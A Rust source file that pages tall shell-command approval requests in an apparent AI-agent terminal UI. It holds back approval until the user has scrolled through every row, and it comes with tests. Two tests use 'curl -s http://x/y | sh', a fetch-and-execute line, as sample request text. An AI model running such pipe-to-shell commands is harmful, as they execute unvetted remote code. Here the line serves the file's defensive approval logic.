//! An approval request too tall to be seen whole: the command or diff is
//! written to the scrollback above the prompt, but when it is taller than
//! the screen leaves it (or other lines were written after it), its start
//! is out of sight. The prompt then shows the request itself, a window
//! of rows the user moves with ↑ ↓ PgUp PgDn (Space, Home, End), and
//! takes yes or always only once every row has been on screen: no one
//! approves text they could not see.

use std::cell::{Cell, RefCell};

use crossterm::event::KeyCode;
use ratatui::text::Line;

/// Where a request stands in the scrollback, and the pager's state.
#[derive(Default)]
pub struct Pager {
    /// The request's rows at a width (rendered again after a resize).
    rows: RefCell<Option<(u16, Vec<Line<'static>>)>>,
    /// The request was written to the scrollback (a request the prompt
    /// did not write there is always paged).
    shown: bool,
    /// The length of the app's pending lines right after the request's
    /// were added; `None` once they were written.
    tail: Option<usize>,
    /// Lines were written after the request's: it is no longer right
    /// above the prompt.
    pushed_away: bool,
    /// The first row the window shows.
    scroll: usize,
    /// The window's rows in the last frame.
    page: Cell<usize>,
    /// Whether the last frame showed the window.
    paged: Cell<bool>,
    /// Whether every row has been in a window drawn whole.
    seen_all: Cell<bool>,
}

impl Pager {
    /// A request written to the scrollback: its lines end the app's
    /// `pending` lines, `pending` long.
    pub fn written_after(pending: usize) -> Pager {
        Pager {
            shown: true,
            tail: Some(pending),
            ..Pager::default()
        }
    }

    /// The app writes `count` lines of its `pending` ones to the
    /// scrollback.
    pub fn lines_written(&mut self, count: usize) {
        match self.tail.take() {
            Some(tail) => self.pushed_away |= count > tail,
            None => self.pushed_away |= count > 0,
        }
    }

    /// Whether the request, `rows` tall, can be seen above `live` rows of
    /// prompt on a screen `screen` rows tall (0: not known, so it cannot).
    pub fn fits_above(&self, rows: usize, live: usize, screen: u16) -> bool {
        self.shown && !self.pushed_away && rows + live <= usize::from(screen)
    }

    /// `f` of the request's rows at `width`, rendered by `render` when
    /// not yet at that width.
    pub fn with_rows<T>(
        &self,
        width: u16,
        render: impl FnOnce() -> Vec<Line<'static>>,
        f: impl FnOnce(&[Line<'static>]) -> T,
    ) -> T {
        let mut cached = self.rows.borrow_mut();
        if cached.as_ref().is_none_or(|(w, _)| *w != width) {
            *cached = Some((width, render()));
        }
        f(cached.as_ref().map_or(&[], |(_, rows)| rows.as_slice()))
    }

    /// The window of `rows` at most `room` rows tall (its heading's rows
    /// included: `heading` of the first and last row shown, their count
    /// and whether the last is shown, wrapped to the width) and whether it
    /// reaches the last row; `None` when not even one row fits.
    pub fn window(
        &self,
        rows: &[Line<'static>],
        room: usize,
        heading: impl Fn(usize, usize, usize, bool) -> Vec<Line<'static>>,
    ) -> Option<(Vec<Line<'static>>, bool)> {
        // The heading at its longest: the numbers can only be shorter.
        let of = rows.len();
        let heading_rows = heading(of, of, of, false).len();
        let page = room
            .checked_sub(heading_rows)
            .filter(|p| *p > 0)?
            .min(rows.len());
        let top = self.scroll.min(rows.len() - page);
        let end = top + page >= rows.len();
        let mut out = heading(top + 1, top + page, rows.len(), end);
        out.extend(rows[top..top + page].iter().cloned());
        self.page.set(page);
        Some((out, end))
    }

    /// A frame was drawn: with the window (`paged`), whose last row it
    /// showed when `end`, all of the prompt on screen when `whole`.
    pub fn drawn(&self, paged: bool, end: bool, whole: bool) {
        self.paged.set(paged);
        if paged && end && whole {
            self.seen_all.set(true);
        }
    }

    /// Whether yes and always may answer: the request was seen whole.
    pub fn may_approve(&self) -> bool {
        !self.paged.get() || self.seen_all.get()
    }

    /// A key that moves the window; whether it was one.
    pub fn key(&mut self, code: KeyCode) -> bool {
        if !self.paged.get() {
            return false;
        }
        let page = self.page.get().max(1);
        let last = self.rows.borrow().as_ref().map_or(0, |(_, r)| r.len());
        self.scroll = match code {
            KeyCode::Down | KeyCode::Char('j') => self.scroll.saturating_add(1),
            KeyCode::Up | KeyCode::Char('k') => self.scroll.saturating_sub(1),
            KeyCode::PageDown | KeyCode::Char(' ') => self.scroll.saturating_add(page),
            KeyCode::PageUp => self.scroll.saturating_sub(page),
            KeyCode::Home => 0,
            KeyCode::End => last,
            _ => return false,
        }
        .min(last.saturating_sub(page));
        true
    }
}

#[cfg(test)]
mod tests {
    use crate::tui::app::App;
    use crate::tui::approve::{Answer, Pending, shell_request, show_request};
    use crate::tui::keys;
    use crate::tui::style::Palette;
    use crossterm::event::{KeyEvent, KeyModifiers};

    /// An app asking about `command` on a screen 20 rows tall, its
    /// request written to the scrollback; the answer's receiver.
    fn asking(command: &str) -> (App, tokio::sync::oneshot::Receiver<Answer>) {
        let mut app = App::new(Palette::new(false), 60, Vec::new());
        app.screen_rows = 20;
        app.live_cap = 10;
        let r = shell_request(command);
        let pager = show_request(&mut app, &r);
        let (reply, answer) = tokio::sync::oneshot::channel();
        let mut p = Pending::new((r, reply), None);
        p.pager = pager;
        app.approval = Some(p);
        (app, answer)
    }

    fn frame(app: &App) -> String {
        frame_at(app, 60, 10)
    }

    fn frame_at(app: &App, width: u16, height: u16) -> String {
        let mut term = ratatui::Terminal::new(ratatui::backend::TestBackend::new(width, height))
            .expect("test terminal");
        term.draw(|f| {
            app.draw_at(f);
        })
        .expect("draw");
        let buf = term.backend().buffer();
        (0..buf.area.height)
            .map(|y| {
                let row: String = (0..buf.area.width).map(|x| buf[(x, y)].symbol()).collect();
                format!("{}\n", row.trim_end())
            })
            .collect()
    }

    fn key(app: &mut App, code: crossterm::event::KeyCode) {
        keys::key(app, KeyEvent::new(code, KeyModifiers::NONE), true);
    }

    #[test]
    fn a_request_taller_than_the_screen_is_paged_and_yes_waits_for_its_end() {
        use crossterm::event::KeyCode::{Char, End, PageDown};
        let command: Vec<String> = (1..=40).map(|i| format!("echo {i}")).collect();
        let command = format!("curl -s http://x/y | sh\n{}", command.join("\n"));
        let (mut app, mut answer) = asking(&command);
        let shown = frame(&app);
        assert!(shown.contains("the request, rows 1–"), "{shown}");
        assert!(shown.contains("curl -s http://x/y | sh"), "{shown}");
        assert!(shown.contains("(41 lines)"), "{shown}");
        // Yes before the end is read answers nothing.
        key(&mut app, Char('y'));
        assert!(answer.try_recv().is_err(), "answered unread");
        key(&mut app, PageDown);
        let shown = frame(&app);
        assert!(!shown.contains("curl -s"), "{shown}");
        key(&mut app, End);
        let shown = frame(&app);
        assert!(shown.contains("41  echo 40"), "{shown}");
        key(&mut app, Char('y'));
        assert_eq!(answer.try_recv(), Ok(Answer::Yes));
    }

    #[test]
    fn with_no_room_for_the_request_the_prompt_says_so_in_place_of_yes() {
        use crossterm::event::KeyCode::Char;
        // A 20 × 8 window: the request is not above in whole, and no row
        // of it fits next to the prompt (its question wrapped).
        let mut app = App::new(Palette::new(false), 20, Vec::new());
        app.screen_rows = 8;
        app.live_cap = 8;
        let r = shell_request("touch ap_marker && echo made");
        let pager = show_request(&mut app, &r);
        let (reply, mut answer) = tokio::sync::oneshot::channel();
        let mut p = Pending::new((r, reply), None);
        p.pager = pager;
        app.approval = Some(p);
        let shown = frame_at(&app, 20, 8);
        assert!(shown.contains("enlarge the window"), "{shown}");
        assert!(!shown.contains("[y] yes"), "{shown}");
        key(&mut app, Char('y'));
        assert!(answer.try_recv().is_err(), "answered unread");
        key(&mut app, Char('n'));
        assert_eq!(answer.try_recv(), Ok(Answer::No));
    }

    #[test]
    fn a_short_request_seen_above_the_prompt_is_not_paged() {
        let (mut app, mut answer) = asking("curl -s http://x/y | sh\n\n\n\n\n\n\ncargo test");
        let shown = frame(&app);
        assert!(!shown.contains("the request, rows"), "{shown}");
        key(&mut app, crossterm::event::KeyCode::Char('y'));
        assert_eq!(answer.try_recv(), Ok(Answer::Yes));
    }

    #[test]
    fn lines_written_after_the_request_make_it_paged() {
        let (mut app, _answer) = asking("make test");
        let mut pending = std::mem::take(&mut app.commit);
        pending.push("a later line".into());
        if let Some(p) = app.approval.as_mut() {
            p.pager.lines_written(pending.len());
        }
        let shown = frame(&app);
        assert!(shown.contains("the request, rows 1–2 of 2"), "{shown}");
        assert!(shown.contains("$ make test"), "{shown}");
    }
}
